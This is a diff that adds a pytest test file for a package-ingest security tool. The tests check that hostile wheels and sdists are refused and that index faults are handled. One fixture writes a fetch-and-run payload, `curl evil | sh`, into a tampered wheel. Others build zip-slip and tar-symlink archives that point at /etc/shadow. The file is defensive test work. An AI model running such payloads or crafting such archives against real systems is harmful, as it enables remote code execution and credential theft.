@@ -1,0 +1,242 @@
+"""Hostile packages and a misbehaving index: each refused with its reason, nothing half-stored."""
+
+from __future__ import annotations
+
+import json
+import zipfile
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import pytest
+
+from tests.builders import build_sdist, build_wheel, metadata_text, sha256
+from tests.conftest import Cli
+from tests.ingest.conftest import write_lock
+from tests.servers import Fault, ScriptedIndex, scripted_index
+
+
+def _bomb(directory: Path) -> Path:
+    path = build_wheel(directory, "bomb", "1.0")
+    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("bomb/zeros.bin", b"\0" * 20_000_000)
+    return path
+
+
+def _record_mismatch(directory: Path) -> Path:
+    clean = build_wheel(directory, "tampered", "1.0")
+    altered = directory / "altered.whl"
+    with zipfile.ZipFile(clean) as source, zipfile.ZipFile(altered, "w") as target:
+        for info in source.infolist():
+            data = source.read(info)
+            if info.filename == "tampered/__init__.py":
+                data = b"import os; os.system('curl evil | sh')\n"
+            target.writestr(info, data)
+    altered.replace(clean)
+    return clean
+
+
+def _stored_files(vault: Path) -> list[Path]:
+    return (
+        [p for p in (vault / "files").rglob("*") if p.is_file()]
+        if (vault / "files").exists()
+        else []
+    )
+
+
+HOSTILE = {
+    "zip-slip": (lambda d: build_wheel(d, "slip", "1.0", extra_members=[("../../evil.pth", b"x")]), "archive", "path traversal"),
+    "bomb": (_bomb, "archive", "decompression bomb"),
+    "record-mismatch": (_record_mismatch, "archive", "RECORD hash mismatch"),
+    "metadata-mismatch": (lambda d: build_wheel(d, "liar", "1.0", metadata=metadata_text("liar", "6.6.6")), "metadata", "does not match"),
+    "typosquat": (lambda d: build_wheel(d, "reqeusts", "2.31.0"), "typosquat", "one typo away from popular requests"),
+    "malicious": (lambda d: build_wheel(d, "colourama", "0.1"), "malicious", "known malicious"),
+    "license-denied": (lambda d: build_wheel(d, "copyleft", "1.0", license_expression="AGPL-3.0-only"), "license", "not allowed"),
+    "sdist-only": (lambda d: build_sdist(d, "onlysrc", "1.0", license_expression="MIT"), "sdist_only", "runs its code"),
+    "tar-symlink": (lambda d: build_sdist(d, "linky", "1.0", extra=[_symlink("linky-1.0/x", "../../../etc/shadow")]), "archive", "points outside"),
+}  # fmt: skip
+
+
+def _symlink(name: str, target: str):  # type: ignore[no-untyped-def]
+    import tarfile
+
+    info = tarfile.TarInfo(name)
+    info.type = tarfile.SYMTYPE
+    info.linkname = target
+    return info
+
+
+POLICY = "version: 1\ningest:\n  min_age: 3d\n  licenses: {deny: [AGPL-3.0-only], unknown: allow}\n"
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE))
+def test_hostile_package_is_refused(cli: Cli, tmp_path: Path, case: str) -> None:
+    build, rule, reason = HOSTILE[case]
+    packages = tmp_path / "packages"
+    packages.mkdir()
+    path = build(packages)
+    index = ScriptedIndex()
+    index.add(path)
+    policy = tmp_path / "policy.yaml"
+    policy.write_text(POLICY)
+    lock = write_lock(tmp_path / "requirements.txt", [path])
+    vault = tmp_path / "vault"
+    with scripted_index(index) as url:
+        result = cli(
+            "ingest",
+            lock,
+            "--index-url",
+            url,
+            "--vault",
+            vault,
+            "--policy",
+            policy,
+            "--format",
+            "json",
+            expect=1,
+        )
+    (outcome,) = json.loads(result.stdout)["files"]
+    assert outcome["status"] == "refused"
+    failing = [c for c in outcome["checks"] if c["status"] == "fail"]
+    assert any(c["rule"] == rule and reason in c["message"] for c in failing), failing
+    assert _stored_files(vault) == []
+    assert not any((vault / "tmp").iterdir()) if (vault / "tmp").exists() else True
+
+
+def _one(tmp_path: Path, **add: object) -> tuple[ScriptedIndex, Path, Path]:
+    packages = tmp_path / "packages"
+    packages.mkdir(exist_ok=True)
+    wheel = build_wheel(packages, "solid", "1.0", license_expression="MIT")
+    index = ScriptedIndex()
+    index.add(wheel, **add)  # type: ignore[arg-type]
+    policy = tmp_path / "policy.yaml"
+    policy.write_text(POLICY)
+    return index, write_lock(tmp_path / "requirements.txt", [wheel]), policy
+
+
+FAST_RETRIES = {"SSCLI_INDEX_BACKOFF": "0.01"}
+
+
+def _run(
+    cli: Cli, index: ScriptedIndex, lock: Path, policy: Path, vault: Path, expect: int
+) -> dict:  # type: ignore[type-arg]
+    args = [
+        "ingest",
+        lock,
+        "--index-url",
+        "",
+        "--vault",
+        vault,
+        "--policy",
+        policy,
+        "--format",
+        "json",
+    ]
+    with scripted_index(index) as url:
+        args[3] = url
+        result = cli(*args, expect=expect, env=FAST_RETRIES)
+    return json.loads(result.stdout)["files"][0]  # type: ignore[no-any-return]
+
+
+def test_yanked_release_is_refused(cli: Cli, tmp_path: Path) -> None:
+    index, lock, policy = _one(tmp_path, yanked="broken on Windows")
+    outcome = _run(cli, index, lock, policy, tmp_path / "vault", 1)
+    assert {
+        "rule": "yanked",
+        "status": "fail",
+        "message": "the release was yanked: broken on Windows",
+    } in outcome["checks"]
+
+
+def test_too_young_release_is_refused(cli: Cli, tmp_path: Path) -> None:
+    index, lock, policy = _one(tmp_path, uploaded=datetime.now(tz=UTC) - timedelta(hours=5))
+    outcome = _run(cli, index, lock, policy, tmp_path / "vault", 1)
+    assert any(c["rule"] == "min_age" and "younger than" in c["message"] for c in outcome["checks"])
+
+
+def test_exception_waives_until_it_expires(cli: Cli, tmp_path: Path) -> None:
+    index, lock, policy = _one(tmp_path, uploaded=datetime.now(tz=UTC) - timedelta(hours=5))
+    waiver = "  exceptions:\n    - package: solid\n      rules: [min_age]\n      reason: urgent security fix, reviewed\n      expires: {}\n"
+    policy.write_text(POLICY + waiver.format("2999-01-01"))
+    outcome = _run(cli, index, lock, policy, tmp_path / "vault", 0)
+    assert any(
+        c["status"] == "excepted" and "waived until 2999-01-01" in c["message"]
+        for c in outcome["checks"]
+    )
+    policy.write_text(POLICY + waiver.format("2020-01-01"))
+    outcome = _run(cli, index, lock, policy, tmp_path / "vault2", 1)
+    assert any(
+        c["status"] == "fail" and "expired on 2020-01-01" in c["message"] for c in outcome["checks"]
+    )
+
+
+def test_hash_mismatch_is_refused_and_nothing_kept(cli: Cli, tmp_path: Path) -> None:
+    index, lock, policy = _one(tmp_path)
+    index.faults.append(Fault(".whl", "swap"))
+    vault = tmp_path / "vault"
+    outcome = _run(cli, index, lock, policy, vault, 1)
+    assert (
+        outcome["checks"][0]["rule"] == "hashes"
+        and "does not match the pinned" in outcome["checks"][0]["message"]
+    )
+    assert _stored_files(vault) == [] and not list((vault / "tmp").iterdir())
+
+
+@pytest.mark.parametrize("kind", ["500", "reset", "truncate"])
+def test_transient_faults_are_retried(cli: Cli, tmp_path: Path, kind: str) -> None:
+    index, lock, policy = _one(tmp_path)
+    index.faults.append(Fault(".whl", kind, times=2))
+    outcome = _run(cli, index, lock, policy, tmp_path / "vault", 0)
+    assert outcome["status"] == "stored"
+    assert sum(1 for path, _ in index.requests if path.endswith(".whl")) == 3
+
+
+@pytest.mark.parametrize("kind", ["500", "reset", "truncate"])
+def test_persistent_faults_fail_cleanly(cli: Cli, tmp_path: Path, kind: str) -> None:
+    index, lock, policy = _one(tmp_path)
+    index.faults.append(Fault(".whl", kind))
+    vault = tmp_path / "vault"
+    outcome = _run(cli, index, lock, policy, vault, 1)
+    assert (
+        outcome["checks"][0]["rule"] == "download"
+        and "after 5 attempts" in outcome["checks"][0]["message"]
+    )
+    assert _stored_files(vault) == [] and not list((vault / "tmp").iterdir())
+
+
+def test_size_cap_stops_a_download(tmp_path: Path) -> None:
+    from sscli.errors import InputError
+    from sscli.index.client import IndexClient, IndexSettings
+
+    index, _lock, _policy = _one(tmp_path)
+    with scripted_index(index) as url:
+        client = IndexClient(IndexSettings(url=url, max_bytes=100))
+        listing = client.project("solid").files[0]
+        with pytest.raises(InputError, match="larger than the 100 byte limit"):
+            client.download(listing, tmp_path / "dl", expected_sha256=None)
+    assert list((tmp_path / "dl").iterdir()) == []
+
+
+def test_credentials_go_only_to_the_index_origin(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from sscli.index.client import IndexClient, IndexSettings
+
+    index, _lock, _policy = _one(tmp_path)
+    index.credentials = "Bearer s3cret"
+    monkeypatch.setenv("SSCLI_INDEX_TOKEN", "s3cret")
+    with scripted_index(index) as url, scripted_index(ScriptedIndex(files=index.files)) as other:
+        client = IndexClient(IndexSettings(url=url))
+        listing = client.project("solid").files[0]
+        foreign = listing.__class__(
+            **{**listing.__dict__, "url": other.replace("/simple/", "/files/") + listing.filename}
+        )
+        client.download(
+            foreign, tmp_path / "dl", expected_sha256=sha256(index.files[listing.filename])
+        )
+    assert index.requests[0][1].get("Authorization") == "Bearer s3cret"
+    monkeypatch.delenv("SSCLI_INDEX_TOKEN")
+    with scripted_index(index) as url:
+        from sscli.errors import EnvironmentFailure
+
+        with pytest.raises(EnvironmentFailure, match="refused access"):
+            IndexClient(IndexSettings(url=url)).project("solid")
